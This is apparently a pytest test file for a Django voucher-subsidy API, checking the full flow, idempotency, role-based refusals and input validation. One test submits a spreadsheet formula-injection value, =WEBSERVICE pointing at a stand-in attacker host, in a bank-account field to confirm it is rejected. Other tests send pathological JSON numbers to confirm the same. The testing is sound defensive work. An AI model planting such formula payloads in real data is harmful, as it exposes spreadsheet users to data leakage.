"""The voucher API under /api/vouchers: the whole flow through HTTP, and each
endpoint tried by the user who must be refused (the request an attacker sends)."""

from __future__ import annotations

import json
from decimal import Decimal

import pytest
from django.test import Client

from kechuang.accounts import tokens
from kechuang.vouchers import selectors, services
from kechuang.vouchers.models import Claim, LedgerTransaction, ServiceOrder
from kechuang.vouchers.tests import factories as f


class Api:
    def __init__(self, user=None) -> None:
        self.client = Client()
        self.headers = {}
        if user is not None:
            self.headers["Authorization"] = f"Bearer {tokens.token_create(user=user)[1]}"

    def get(self, path, **params):
        return self.client.get(f"/api/vouchers{path}", params, headers=self.headers)

    def post(self, path, body=None):
        return self.client.post(
            f"/api/vouchers{path}",
            json.dumps(body or {}),
            content_type="application/json",
            headers=self.headers,
        )

    def upload(self, path, name, data):
        from django.core.files.uploadedfile import SimpleUploadedFile

        return self.client.post(
            f"/api/vouchers{path}", {"file": SimpleUploadedFile(name, data)}, headers=self.headers
        )


@pytest.fixture
def alice_order(prog, staff_zhang, ent_alice, offer):
    f.issue(prog, staff_zhang, ent_alice, "100000")
    return f.order(prog, ent_alice, offer, "20000")


def test_the_whole_flow_through_the_api(prog, staff_zhang, ent_alice, inst_lab, offer, auditor_li):
    alice, staff, lab = Api(ent_alice), Api(staff_zhang), Api(inst_lab)
    r = alice.post(
        "/quota-applications",
        {"program": prog.pk, "amount": "50000.00", "applicant_facts": f.ELIGIBLE},
    )
    assert r.status_code == 201, r.content
    app_id = r.json()["id"]
    r = staff.post(
        f"/quota-applications/{app_id}/approve", {"amount": "40000", "idempotency_key": "k1"}
    )
    assert r.status_code == 200 and r.json()["approved_amount"] == "40000.00"
    # The same request again: same answer, money moved once.
    assert (
        staff.post(
            f"/quota-applications/{app_id}/approve", {"amount": "40000", "idempotency_key": "k1"}
        ).status_code
        == 200
    )
    assert alice.get("/quota").json() == [
        {"program": prog.pk, "issued": "40000.00", "left": "40000.00"}
    ]
    r = alice.post(
        "/orders",
        {
            "program": prog.pk,
            "offering": offer.pk,
            "contract_amount": "10000",
            "order_date": str(f.TODAY),
            "start_date": str(f.TODAY),
            "end_date": str(f.TODAY),
        },
    )
    assert r.status_code == 201, r.content
    order_id = r.json()["id"]
    r = alice.post(f"/orders/{order_id}/vouchers", {"idempotency_key": "v1"})
    assert r.status_code == 200, r.content
    subsidy = Decimal(r.json()["subsidy_amount"])
    assert r.json()["policy_sha256"] and r.json()["ratio"]
    assert alice.post(f"/orders/{order_id}/vouchers", {"idempotency_key": "v1"}).json()[
        "subsidy_amount"
    ] == str(subsidy)
    r = lab.upload(f"/orders/{order_id}/delivery", "report.pdf", f.PDF)
    assert r.status_code == 200 and r.json()["status"] == "delivered"
    r = lab.post(f"/orders/{order_id}/claim")
    assert r.status_code == 201
    claim_id = r.json()["id"]
    assert (
        staff.post(f"/claims/{claim_id}/approve", {"idempotency_key": "c1"}).json()["status"]
        == "approved"
    )
    r = staff.post(f"/programs/{prog.pk}/settlements", {"idempotency_key": "s1"})
    assert r.status_code == 201
    batch_id = r.json()["id"]
    assert lab.get("/claims", status="paid").json()[0]["amount"] == str(subsidy)
    auditor = Api(auditor_li)
    b = auditor.get(f"/programs/{prog.pk}/balances").json()
    assert Decimal(b["paid"]) == subsidy and Decimal(b["quota"]) == Decimal("40000") - subsidy
    assert (
        len(auditor.get(f"/programs/{prog.pk}/ledger").json())
        == 2 * LedgerTransaction.objects.count()
    )
    stats = auditor.get(f"/programs/{prog.pk}/statistics").json()
    assert Decimal(stats["amount_redeemed"]) == subsidy
    r = auditor.get(f"/settlements/{batch_id}/payment.xlsx")
    assert r.status_code == 200 and r.content[:2] == b"PK"


def test_bad_input_is_refused_with_a_message_and_changes_nothing(
    prog, staff_zhang, ent_alice, alice_order
):
    alice = Api(ent_alice)
    for amount in ("0", "-5", "10.001"):
        r = alice.post("/quota-applications", {"program": prog.pk, "amount": amount})
        assert r.status_code in (400, 422) and r.json()["message"], r.content
    r = alice.post(f"/orders/{alice_order.pk}/vouchers", {"idempotency_key": ""})
    assert r.status_code == 400 and r.json()["extra"]["field"] == "idempotency_key"
    assert selectors.program_balances(prog)["committed"] == 0


def test_it_rejects_a_replay_with_a_different_payload(prog, ent_alice, alice_order):
    alice = Api(ent_alice)
    assert (
        alice.post(f"/orders/{alice_order.pk}/vouchers", {"idempotency_key": "v"}).status_code
        == 200
    )
    r = alice.post(
        f"/orders/{alice_order.pk}/vouchers", {"idempotency_key": "v", "eligible_amount": "100"}
    )
    assert r.status_code == 400 and "idempotency" in r.json()["message"]


def test_enterprise_b_cannot_see_or_spend_on_as_order(ent_bob, alice_order):
    bob = Api(ent_bob)
    assert bob.get(f"/orders/{alice_order.pk}").status_code == 404
    assert (
        bob.post(f"/orders/{alice_order.pk}/vouchers", {"idempotency_key": "evil"}).status_code
        == 404
    )
    assert (
        bob.post(f"/orders/{alice_order.pk}/cancel", {"idempotency_key": "evil2"}).status_code
        == 404
    )
    assert bob.get("/orders").json() == []
    assert ServiceOrder.objects.get().status == "draft"


def test_enterprise_b_cannot_see_or_decide_as_quota(prog, staff_zhang, ent_alice, ent_bob):
    app = services.quota_apply(
        program=prog, enterprise=ent_alice.enterprise, actor=ent_alice, amount="10"
    )
    bob = Api(ent_bob)
    assert bob.get(f"/quota-applications/{app.pk}").status_code == 404
    assert (
        bob.post(
            f"/quota-applications/{app.pk}/approve", {"amount": "10", "idempotency_key": "e"}
        ).status_code
        == 404
    )
    assert bob.get("/quota-applications").json() == []
    assert bob.get("/quota").json() == []
    # Even Alice cannot approve her own application.
    assert (
        Api(ent_alice)
        .post(f"/quota-applications/{app.pk}/approve", {"amount": "10", "idempotency_key": "e2"})
        .status_code
        == 403
    )


def test_institution_x_cannot_deliver_or_claim_ys_orders(
    prog, ent_alice, inst_other, other_lab, alice_order
):
    services.order_voucher_apply(order=alice_order, actor=ent_alice, idempotency_key="v")
    other = Api(inst_other)
    assert other.get(f"/orders/{alice_order.pk}").status_code == 404
    assert other.upload(f"/orders/{alice_order.pk}/delivery", "r.pdf", f.PDF).status_code == 404
    assert other.post(f"/orders/{alice_order.pk}/claim").status_code == 404
    assert not Claim.objects.exists()


def test_the_enterprise_cannot_claim_or_deliver_its_own_order(ent_alice, alice_order):
    alice = Api(ent_alice)
    assert alice.post(f"/orders/{alice_order.pk}/claim").status_code == 403
    assert alice.upload(f"/orders/{alice_order.pk}/delivery", "r.pdf", f.PDF).status_code == 403


def test_the_institution_cannot_apply_vouchers_or_approve_its_claims(
    prog, staff_zhang, ent_alice, inst_lab, alice_order
):
    lab = Api(inst_lab)
    assert (
        lab.post(f"/orders/{alice_order.pk}/vouchers", {"idempotency_key": "x"}).status_code == 403
    )
    services.order_voucher_apply(order=alice_order, actor=ent_alice, idempotency_key="v")
    services.order_deliver(order=alice_order, actor=inst_lab, upload=f.pdf())
    claim = services.claim_submit(order=alice_order, actor=inst_lab)
    assert lab.post(f"/claims/{claim.pk}/approve", {"idempotency_key": "self"}).status_code == 403
    assert (
        lab.post(f"/programs/{prog.pk}/settlements", {"idempotency_key": "self2"}).status_code
        == 403
    )
    assert Claim.objects.get().status == "submitted"


@pytest.mark.parametrize(
    "path",
    ["/programs/{p}/balances", "/programs/{p}/ledger", "/programs/{p}/statistics"],
)
def test_ledger_and_statistics_are_for_staff_and_auditors(
    prog, ent_alice, inst_lab, auditor_li, path
):
    url = path.format(p=prog.pk)
    assert Api(ent_alice).get(url).status_code == 403
    assert Api(inst_lab).get(url).status_code == 403
    assert Api(auditor_li).get(url).status_code == 200


def test_auditors_read_but_never_move_money(prog, auditor_li, ent_alice, alice_order):
    auditor = Api(auditor_li)
    app = services.quota_apply(
        program=prog, enterprise=ent_alice.enterprise, actor=ent_alice, amount="10"
    )
    assert auditor.get(f"/orders/{alice_order.pk}").status_code == 200
    assert (
        auditor.post(
            f"/quota-applications/{app.pk}/approve", {"amount": "10", "idempotency_key": "a"}
        ).status_code
        == 403
    )
    assert (
        auditor.post(f"/orders/{alice_order.pk}/vouchers", {"idempotency_key": "a2"}).status_code
        == 403
    )
    assert auditor.post(f"/programs/{prog.pk}/expire").status_code == 403
    assert auditor.post("/programs", {}).status_code in (403, 422)


def test_anonymous_requests_are_refused(prog):
    anon = Api()
    for path in ("/programs", "/orders", "/claims", "/quota"):
        assert anon.get(path).status_code == 401


def test_text_the_database_cannot_hold_is_refused_naming_the_field(
    prog, staff_zhang, inst_other, ent_alice, offer
):
    from kechuang.vouchers.models import Institution, Program

    r = Api(inst_other).post(
        "/institutions",
        {"name": "新机构", "credit_code": "12310000MB0000077X",
         "bank_account": '=WEBSERVICE("http://evil.example/")'},
    )
    assert r.status_code == 400 and r.json()["extra"]["field"] == "bank_account"
    r = Api(inst_other).post(
        "/institutions", {"name": "新机构", "credit_code": "12310000MB0000077X", "bank_name": "银" * 101}
    )
    assert r.status_code == 400 and r.json()["extra"]["field"] == "bank_name"
    assert not Institution.objects.filter(credit_code="12310000MB0000077X").exists()
    f.issue(prog, staff_zhang, ent_alice, "1000")
    r = Api(ent_alice).post(
        "/orders",
        {"program": prog.pk, "offering": offer.pk, "contract_amount": "100",
         "order_date": str(f.TODAY), "start_date": str(f.TODAY), "end_date": str(f.TODAY),
         "contract_number": "H" * 61},
    )
    assert r.status_code == 400 and r.json()["extra"]["field"] == "contract_number"
    assert not ServiceOrder.objects.exists()
    programs = Program.objects.count()
    for name in ("名" * 201, "  "):
        r = Api(staff_zhang).post(
            "/programs",
            {"year": f.TODAY.year, "name": name, "budget": "1000", "per_enterprise_cap": "100",
             "per_team_cap": "100", "valid_from": str(f.TODAY), "valid_until": str(f.TODAY),
             "categories": ["software_testing"], "idempotency_key": f"p-{len(name)}"},
        )
        assert r.status_code == 400 and r.json()["extra"]["field"] == "name", r.content
    assert Program.objects.count() == programs


def test_institutions_apply_and_staff_decide(staff_zhang, inst_other, ent_alice):
    r = Api(inst_other).post(
        "/institutions", {"name": "新机构", "credit_code": "12310000MB0000077X"}
    )
    assert r.status_code == 201 and r.json()["status"] == "pending"
    pk = r.json()["id"]
    assert Api(ent_alice).post(f"/institutions/{pk}/decision", {"approve": True}).status_code in (
        403,
        404,
    )
    assert (
        Api(ent_alice)
        .post("/institutions", {"name": "x", "credit_code": "12310000MB0000078X"})
        .status_code
        == 403
    )
    r = Api(staff_zhang).post(f"/institutions/{pk}/decision", {"approve": False})
    assert r.status_code == 400 and "reason" in r.json()["message"]
    r = Api(staff_zhang).post(f"/institutions/{pk}/decision", {"approve": True})
    assert r.json()["status"] == "approved"
    r = Api(inst_other).post(
        f"/institutions/{pk}/offerings",
        {"category": f.category().code, "name": "等保测评", "price": "30000"},
    )
    assert r.status_code == 201
    assert any(o["id"] == r.json()["id"] for o in Api(ent_alice).get("/offerings").json())


def test_an_institution_cannot_publish_in_anothers_catalogue(lab, inst_other, other_lab):
    r = Api(inst_other).post(
        f"/institutions/{lab.pk}/offerings",
        {"category": f.category().code, "name": "x", "price": "1"},
    )
    assert r.status_code == 403


def test_staff_create_a_program_through_the_api_once(staff_zhang, ent_alice):
    f.category()
    body = {
        "year": 2026,
        "name": "科技服务券",
        "budget": "3740000.00",
        "per_enterprise_cap": "300000",
        "per_team_cap": "50000",
        "valid_from": "2026-01-01",
        "valid_until": "2026-12-31",
        "categories": ["software_testing"],
        "idempotency_key": "p1",
    }
    staff = Api(staff_zhang)
    first = staff.post("/programs", body)
    assert first.status_code == 201, first.content
    assert staff.post("/programs", body).json()["id"] == first.json()["id"]
    assert Api(ent_alice).post("/programs", {**body, "idempotency_key": "p2"}).status_code == 403
    r = staff.post("/programs", {**body, "categories": ["nonsense"], "idempotency_key": "p3"})
    assert r.status_code == 400 and r.json()["extra"]["field"] == "categories"
    r = staff.post("/programs", {**body, "budget": "0", "idempotency_key": "p4"})
    assert r.status_code == 400 and r.json()["extra"]["field"] == "budget"


def test_the_openapi_spec_lists_the_voucher_endpoints(staff_zhang):
    spec = Client().get("/api/openapi.json").json()
    assert "/api/vouchers/orders/{pk}/vouchers" in spec["paths"]


def test_the_auditor_reads_the_audit_trail_of_voucher_actions(
    prog, auditor_li, ent_alice, alice_order
):
    from django.urls import reverse

    from kechuang.testing import PASSWORD

    client = Client()
    client.login(username=auditor_li.username, password=PASSWORD)
    page = client.get(reverse("accounts:audit_log"))
    assert page.status_code == 200 and "voucher.order_create" in page.content.decode()


@pytest.mark.parametrize(
    "body",
    [
        '{"program": -1e999999999, "amount": "1"}',  # int() of it would take hours
        '{"program": 1, "amount": 1e-999999999}',
        '{"program": 1' + "0" * 40 + ', "amount": "1"}',
        '{"program": 1, "amount": NaN}',
        '{"program": 1, "amount": "1", "applicant_facts": {"k": "\\ud800"}}',  # no database stores it
        '{"program": 1, "amount": "1"',
    ],
)
def test_a_body_no_number_or_text_column_can_hold_is_refused_at_once(prog, ent_alice, body):
    api = Api(ent_alice)
    r = api.client.post(
        "/api/vouchers/quota-applications", body, content_type="application/json", headers=api.headers
    )
    assert r.status_code == 400, r.content
    assert r.json()["message"]
    assert not selectors.program_balances(prog)["committed"]


def test_applicant_facts_with_a_fraction_are_stored_exactly(prog, ent_alice):
    r = Api(ent_alice).post(
        "/quota-applications",
        {"program": prog.pk, "amount": "100", "applicant_facts": {**f.ELIGIBLE, "note_share": 0.1}},
    )
    assert r.status_code == 201, r.content
    from kechuang.vouchers.models import QuotaApplication

    stored = QuotaApplication.objects.get(pk=r.json()["id"]).applicant_facts
    assert stored == {**f.ELIGIBLE, "note_share": "0.1"}


def test_an_id_beyond_the_database_range_is_a_400_not_a_crash(staff_zhang):
    r = Api(staff_zhang).post("/quota-applications/99999999999999999999999/approve",
                              {"amount": "1", "idempotency_key": "k"})
    assert r.status_code in (400, 404), r.content


@pytest.mark.parametrize("year", [-1, 0, 99999, 1e20])
def test_a_program_year_that_is_no_year_is_refused(staff_zhang, year):
    f.category()
    body = {
        "year": year, "name": "x", "budget": "1000", "per_enterprise_cap": "100",
        "per_team_cap": "50", "valid_from": "2026-01-01", "valid_until": "2026-12-31",
        "categories": [f.category().pk], "idempotency_key": "py",
    }
    r = Api(staff_zhang).post("/programs", body)
    assert r.status_code in (400, 422), r.content
    from kechuang.vouchers.models import Program

    assert not Program.objects.exists()
